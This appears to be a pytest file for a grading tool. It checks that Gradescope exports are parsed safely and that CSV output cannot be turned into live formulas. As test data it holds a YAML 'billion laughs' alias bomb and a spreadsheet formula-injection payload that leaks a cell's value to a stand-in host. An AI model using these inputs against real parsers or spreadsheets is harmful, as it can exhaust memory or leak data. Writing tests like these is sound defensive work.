"""What a regrade reads from an export is parsed totally: submission_metadata.yml (no aliases, a size cap, plain
fields only), folder names that look like formulas (inert in every CSV), and entries whose names clean to the
same key (each graded under a key and a results file of its own)."""
import csv
import time
import zipfile

import pytest

from grader import paths, spreadsheet
from grader.regrade import METADATA_LIMIT, ExportError, entries, regrade

SOLUTIONS = paths.solutions_dir("cnn")
STUBS = paths.assignments_dir("cnn")
# Nine lists of nine, nested nine deep: 494 bytes that stand for 9^9 strings (about 2 GB once made a string).
ALIAS_BOMB = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi")]
    + ["submission_1:", "  :submitters:", "  - :name: *i"]) + "\n"
FORMULA = '=HYPERLINK("x.example?leak="&A1,"see")'   # no slash: a folder's name


def export_with(folder, metadata):
    (folder / "submission_1").mkdir(parents=True)
    (folder / "submission_metadata.yml").write_text(metadata)
    return folder


def test_a_metadata_alias_bomb_is_refused_at_once_in_one_line(tmp_path):
    assert len(ALIAS_BOMB) < 500
    started = time.monotonic()
    with pytest.raises(ExportError) as refused:
        entries(export_with(tmp_path, ALIAS_BOMB))
    assert time.monotonic() - started < 1
    said = str(refused.value)
    assert said == (f"{tmp_path / 'submission_metadata.yml'} uses YAML anchors or aliases (line 1), which "
                    "Gradescope's metadata never does: refused unread")


def test_metadata_over_the_size_cap_is_refused_unread(tmp_path):
    record = "submission_{}:\n  :submitters:\n  - :name: A Student\n"
    text = "".join(record.format(i) for i in range(METADATA_LIMIT // len(record) + 1))
    assert len(text) > METADATA_LIMIT
    with pytest.raises(ExportError, match=r"submission_metadata.yml is over 1 MB, far more than Gradescope writes "
                                          r"for a class: refused unread$"):
        entries(export_with(tmp_path, text))


@pytest.mark.parametrize("text, why", [
    ("[" * 100_000, "cannot be read"),                    # deeper than any parser's stack
    ("submission_1: " + "9" * 5000, "cannot be read"),    # an integer past Python's digit limit
    ("submission_1: 2026-02-31\n", "cannot be read"),     # a date that does not exist
    ("- submission_1\n", "is not Gradescope's submission metadata"),
])
def test_metadata_that_cannot_be_used_is_one_line(tmp_path, text, why):
    with pytest.raises(ExportError, match=why) as refused:
        entries(export_with(tmp_path, text))
    assert "\n" not in str(refused.value) and len(str(refused.value)) < 500 + len(str(tmp_path))


def test_only_plain_metadata_fields_are_taken_and_the_rest_is_said(tmp_path, capsys):
    metadata = """\
submission_1:
  :submitters:
  - :name: [not, a, name]
    :email: {a: b}
    :sid: 1001
  - just a string
  - :name: "Ada \\e[31mLovelace"
    :email: ada@example.edu
    :sid: '1002'
submission_2:
  :submitters: 7
"""
    (tmp_path / "submission_2").mkdir()
    found = entries(export_with(tmp_path, metadata))
    assert [e.submitters for e in found] == [
        [{"name": "", "email": "", "sid": "1001"}, {"name": "Ada Lovelace", "email": "ada@example.edu", "sid": "1002"}],
        []]
    assert capsys.readouterr().err == (
        "regrade: submission_metadata.yml: 4 field(s) that are not plain text left empty (submission_1: submitter "
        "1's name; submission_1: submitter 1's email; submission_1: submitter 2 and 1 more)\n")


def test_a_cell_that_starts_like_a_formula_is_written_as_text(tmp_path):
    path = tmp_path / "sheet.csv"
    cells = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", "a=b", -1.5, 3]
    spreadsheet.write(path, ["column"] * len(cells), [cells])
    with open(path, newline="") as f:
        _, row = list(csv.reader(f))
    assert row == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain", "a=b", "-1.5", "3"]


@pytest.fixture(scope="module")
def regraded(tmp_path_factory):
    """A plain folder of submissions (no metadata) regraded on the quiz with two jobs, pairs listed from 90 %: two
    folders named like formulas holding the same quiz.py (a similar pair), a folder x and a zip x.zip (the same
    key, x)."""
    root = tmp_path_factory.mktemp("inputs")
    export = root / "export"
    quiz, stub = (SOLUTIONS / "quiz.py").read_text(), (STUBS / "quiz.py").read_text()
    for name in (FORMULA, "-2+3"):
        (export / name).mkdir(parents=True)
        (export / name / "quiz.py").write_text(quiz)
    (export / "x").mkdir()
    (export / "x" / "quiz.py").write_text(quiz)
    with zipfile.ZipFile(export / "x.zip", "w") as z:
        z.writestr("quiz.py", stub)
    return root / "out", regrade(export, root / "out", parts=["quiz"], jobs=2, threshold=0.9)


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_folder_names_like_formulas_are_inert_in_both_csvs(regraded):
    out, _ = regraded
    keys = {row["submission"]: row["total"] for row in read_csv(out / "scores.csv")}
    assert keys == {f"'{FORMULA}": "10.0", "'-2+3": "10.0", "x": "10.0", "x-2": "0.0"}
    pairs = {(p["submission_a"], p["submission_b"]): p["score"] for p in read_csv(out / "similarity.csv")}
    assert pairs[("'-2+3", f"'{FORMULA}")] == "1.0"
    assert all(not cell.startswith(spreadsheet.FORMULA_START) for row in read_csv(out / "similarity.csv")
               for cell in row.values())


def test_the_report_names_the_similarity_threshold_of_the_regrade(regraded):
    out, _ = regraded
    assert "<p>A pair is listed when 90.0 % or more of one file's code" in (out / "report.html").read_text()


def test_a_folder_and_a_zip_of_the_same_name_are_graded_apart(regraded):
    out, rows = regraded
    assert {row["submission"]: row["total"] for row in rows if row["submission"].startswith("x")} == \
        {"x": 10, "x-2": 0}
    assert [path.name for path in sorted(out.glob("x*.json"))] == ["x-2.json", "x.json"]
    assert [path.name for path in sorted((out / "logs").glob("x*.log"))] == ["x-2.log", "x.log"]


def test_the_log_says_which_entries_share_a_key(tmp_path, capsys):
    (tmp_path / "x").mkdir()
    (tmp_path / "x.zip").write_bytes(b"")
    (tmp_path / "x-2").mkdir()   # the first free suffix is taken
    assert [e.key for e in entries(tmp_path)] == ["x", "x-2", "x-3"]
    assert {e.key: e.path.name for e in entries(tmp_path)} == {"x": "x", "x-2": "x-2", "x-3": "x.zip"}
    assert capsys.readouterr().err.splitlines()[0] == "regrade: x and x.zip have the same key (x): graded as x and x-3"


def test_keys_alike_once_made_safe_for_a_file_name_get_pages_of_their_own(tmp_path):
    from grader import similarity

    source = (SOLUTIONS / "quiz.py").read_bytes()
    pairs = similarity.compare({key: {"quiz.py": source} for key in ("a b", "a_b", "c")}, {}, tmp_path / "pages")
    pages = {(p.a, p.b): p.page for p in pairs}
    assert pages == {("a b", "a_b"): "pages/quiz.py-a_b-a_b.html", ("a b", "c"): "pages/quiz.py-a_b-c.html",
                     ("a_b", "c"): "pages/quiz.py-a_b-c-2.html"}
    assert "submission a b" in (tmp_path / pages[("a b", "c")]).read_text()
    assert "submission a_b" in (tmp_path / pages[("a_b", "c")]).read_text()
